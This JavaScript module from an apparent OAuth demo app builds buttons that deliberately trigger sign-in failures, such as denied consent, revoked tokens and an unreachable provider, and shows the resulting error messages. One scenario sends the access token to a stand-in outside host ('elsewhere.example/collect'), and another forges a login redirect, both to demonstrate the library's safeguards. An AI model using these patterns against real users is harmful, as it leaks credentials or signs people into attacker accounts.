// Failures on purpose: each button shows what a visitor reads when something goes wrong.

import { showError } from './messages.js';
import { h, whileBusy } from './dom.js';

const nowhere = 'http://localhost:1';

const scenarios = [
  {
    id: 'trouble-deny',
    title: 'You say no',
    when: 'signed-out',
    text: 'Demo ID asks for your permission. Press “Deny” there and see what this page says.',
    button: 'Ask me first',
    run: ({ signIn }) => signIn({ prompt: 'consent' }),
  },
  {
    id: 'trouble-refused',
    title: 'The provider refuses',
    when: 'signed-out',
    text: 'This page asks Demo ID to create an account, which Demo ID does not offer.',
    button: 'Ask anyway',
    run: ({ signIn }) => signIn({ prompt: 'create' }),
  },
  {
    id: 'trouble-withdrawn',
    title: 'Your access is withdrawn',
    when: 'signed-in',
    text: 'This page removes its own access at Demo ID, as you could in your account there. Then it asks for a new token.',
    button: 'Withdraw it',
    async run({ client }) {
      try {
        // By a request of its own: client.revokeToken() would tell the package.
        const { revocation_endpoint: url } = await client.loadServerMetadata();
        await fetch(url, { method: 'POST', body: new URLSearchParams({ token: client.token.refresh_token, client_id: client.clientId }) });
        await client.refreshToken();
      } catch (error) {
        if (client.isAuthenticated) showError(error); // else the session has ended, and session.js has said so
      }
    },
  },
  {
    id: 'trouble-origin',
    title: 'A token sent to another site',
    when: 'signed-in',
    text: 'By mistake or on purpose, the code of this page sends your access token to a site that is not the API.',
    button: 'Send it there',
    async run({ client }) {
      try {
        await client.get('https://elsewhere.example/collect');
      } catch (error) {
        showError(error);
      }
    },
  },
  {
    id: 'trouble-forged',
    title: 'A forged answer',
    text: 'An attacker sends you a link that contains the attacker’s code, to sign you in to the attacker’s account.',
    button: 'Open the link',
    async run({ client }) {
      // The URL of such a link. handleRedirect() would return null, since no login of this tab has this state;
      // authorizeAccessToken() must judge the URL, and its error says what is wrong.
      const forged = new URL('/?code=forged&state=forged', location.origin);
      try {
        await client.authorizeAccessToken(forged);
      } catch (error) {
        showError(error);
      }
    },
  },
  {
    id: 'trouble-unreachable',
    title: 'The provider is down',
    text: 'This page has settings for another provider, at an address where no server answers.',
    button: 'Sign in there',
    async run(app) {
      const { oauth } = app;
      const client = oauth.client('unreachable') ?? oauth.register('unreachable', { clientId: 'demo-spa', issuer: nowhere });
      const attempt = async () => {
        try {
          await client.authorizeRedirect();
        } catch (error) {
          showError(error, { retry: attempt });
        }
      };
      await attempt();
    },
  },
];

export const troubleSection = (app) => h('section', { class: 'trouble', 'aria-labelledby': 'trouble-title' },
  h('h2', { id: 'trouble-title' }, 'When something goes wrong'),
  h('p', { class: 'lead' }, 'These buttons cause failures on purpose. Each shows what a visitor of your application would read.'),
  h('ul', { class: 'tiles' }, scenarios.filter(({ when }) => !when || (when === 'signed-in') === app.client.isAuthenticated).map(({ id, title, text, button, run }) => {
    const start = h('button', { id, class: 'button', type: 'button' }, button);
    start.addEventListener('click', whileBusy(start, () => run(app)));
    return h('li', {}, h('h3', {}, title), h('p', {}, text), start);
  })));
